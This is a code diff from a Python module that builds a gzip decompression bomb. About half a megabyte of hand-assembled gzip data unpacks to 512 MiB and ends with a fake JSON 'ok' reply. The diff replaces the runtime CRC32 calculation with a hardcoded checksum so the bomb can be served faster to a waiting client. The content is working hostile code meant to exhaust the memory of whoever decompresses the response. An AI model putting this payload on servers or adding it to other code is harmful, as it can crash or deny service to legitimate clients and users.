@@ -17,6 +17,8 @@ _PAUSE: Final = 0.02
 _MEBIBYTE: Final = 1 << 20
 #: What the packed answer becomes to somebody who unpacks it: half a gibibyte from half a megabyte.
 UNPACKED_BYTES: Final = 512 * _MEBIBYTE
+#: Of the unpacked answer: to reckon it anew would take longer than a client waits.
+_CHECKSUM: Final = 0xFB955DA8
 _TAKEN: Final = b'{"errcode": 0, "code": 0, "errmsg": "ok"}'
 
 
@@ -50,13 +52,9 @@ def _bomb() -> bytes:
     # After a full flush the same bytes mean the same again: what is packed once can be said often.
     piece = packing.compress(blanks) + packing.flush(zlib.Z_FULL_FLUSH)
     end = packing.compress(_TAKEN) + packing.flush()
-    checksum = 0
-    for _number in range(count):
-        checksum = zlib.crc32(blanks, checksum)
-    checksum = zlib.crc32(_TAKEN, checksum)
     length = _MEBIBYTE * count + len(_TAKEN)
     head = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"
-    return head + piece * count + end + struct.pack("<II", checksum, length)
+    return head + piece * count + end + struct.pack("<II", _CHECKSUM, length)
 
 
 def _packed(conversation: Conversation) -> None:
